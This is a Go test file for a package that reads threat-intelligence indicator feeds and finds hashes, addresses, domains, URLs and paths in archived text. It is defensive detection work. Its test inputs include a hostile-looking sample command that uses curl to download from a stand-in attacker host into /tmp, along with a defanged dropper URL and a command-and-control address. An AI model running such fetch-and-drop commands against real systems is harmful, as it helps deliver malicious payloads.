package indicators

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/ckexport/ckexport/schema"
)

const digest = "2dfad686aaafd39bf1fbcc9f1e6765b461119335f2c402cd1136ae855a02b514"

// TestRead reads lists as feeds have them.
func TestRead(t *testing.T) {
	list, skipped, err := Read(strings.NewReader("\ufeff# feed, of today\n\n" +
		strings.ToUpper(digest) + "  miner\n" +
		"10.0.0.0/8\n2001:DB8::1 # seen at night\n::ffff:192.0.2.1\n" +
		"*.Evil.example\nhxxps://evil[.]example/drop.sh\n/tmp/.x\n" +
		`"192.0.2.7","C2, primary",high` + "\nip,198.51.100.0/24,scanner\n" +
		"type,value,comment\nd41d8cd98f00b204e9800998ecf8427e\nhost\n1.2.3\n/with space in it\n"))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, i := range list {
		got = append(got, fmt.Sprintf("%s %s (%s)", i.Kind, i.value, i.Note))
	}
	want := []string{
		"sha256 " + digest + " (miner)", "network 10.0.0.0/8 ()", "address 2001:db8::1 (seen at night)", "address 192.0.2.1 ()",
		"domain evil.example ()", "url https://evil.example/drop.sh ()", "path /tmp/.x ()",
		"address 192.0.2.7 (C2, primary, high)", "network 198.51.100.0/24 (ip, scanner)", "path /with (space in it)",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("indicators (-want +got):\n%s", diff)
	}
	var lines []int
	for _, s := range skipped {
		lines = append(lines, s.Line)
	}
	if diff := cmp.Diff([]int{12, 13, 14, 15}, lines); diff != "" {
		t.Errorf("lines skipped (-want +got):\n%s", diff)
	}
}

// TestMatch: what a value has, and what only looks like it.
func TestMatch(t *testing.T) {
	list, _, err := Read(strings.NewReader(digest + "\n192.0.2.1\n10.1.0.0/16\n2001:db8::/32\nevil.example\nhttp://evil.example/a\n/tmp/x\n"))
	if err != nil {
		t.Fatal(err)
	}
	set := NewSet(list)
	for _, c := range []struct {
		holds Content
		value string
		want  string
	}{
		{Digests, digest, digest},
		{Digests, digest[:63] + "0", ""},
		{Addresses, "192.0.2.1", "192.0.2.1"},
		{Addresses, "::ffff:192.0.2.1", "192.0.2.1"},
		{Addresses, "192.0.2.10", ""},
		{Addresses, "10.1.255.255", "10.1.0.0/16"},
		{Addresses, "10.2.0.0", ""},
		{Addresses, "2001:db8:1::5", "2001:db8::/32"},
		{Addresses, "no address", ""},
		{Paths, "/tmp/x", "/tmp/x"},
		{Paths, "/tmp/xy", ""},
		{Texts, "curl -o /tmp/x http://evil.example/a/b?c", "http://evil.example/a /tmp/x evil.example"},
		{Texts, "get http://evil.example/ab", "evil.example"},
		{Texts, "c2=cdn.EVIL.example:8443;", "evil.example"},
		{Texts, "notevil.example evil.example.org", ""},
		{Texts, "connect 192.0.2.1:4444, then [2001:db8::7]:80", "192.0.2.1 2001:db8::/32"},
		{Texts, "192.0.2.100 1192.0.2.1", ""},
		{Texts, "sha256:" + digest + ".", digest},
		{Texts, "PATH=/tmp/x:/bin", "/tmp/x"},
	} {
		var got []string
		for _, i := range set.in(c.holds, c.value) {
			got = append(got, i.Text)
		}
		if strings.Join(got, " ") != c.want {
			t.Errorf("%q has %q, want %q", c.value, got, c.want)
		}
	}
}

// TestPlaces: the columns that are searched are columns of the schema, each once.
func TestPlaces(t *testing.T) {
	seen := map[string]bool{}
	for _, p := range Places {
		table, ok := schema.Lookup(p.Table)
		if !ok || table.Column(p.Column) == nil {
			t.Errorf("there is no column %s of %s", p.Column, p.Table)
		}
		if name := p.Table + "." + p.Column; seen[name] {
			t.Errorf("%s occurs twice", name)
		} else {
			seen[name] = true
		}
	}
}

// FuzzText looks for indicators in texts of archives, which may be anything: the same
// are found in a text that begins and ends with what is of no word.
func FuzzText(f *testing.F) {
	list, _, err := Read(strings.NewReader(digest + "\n192.0.2.1\n10.1.0.0/16\nevil.example\nhttp://evil.example/a\n/tmp/x\n"))
	if err != nil {
		f.Fatal(err)
	}
	set := NewSet(list)
	for _, seed := range []string{"", "a http://evil.example/a b", "[2001:db8::7]:80 192.0.2.1:1", strings.Repeat(".", 100), "::ffff:10.1.2.3%eth0", "\xff/tmp/x\x00"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if a, b := len(set.text(text)), len(set.text(" "+text+" ")); a != b {
			t.Errorf("%q: %d, and %d", text, a, b)
		}
	})
}
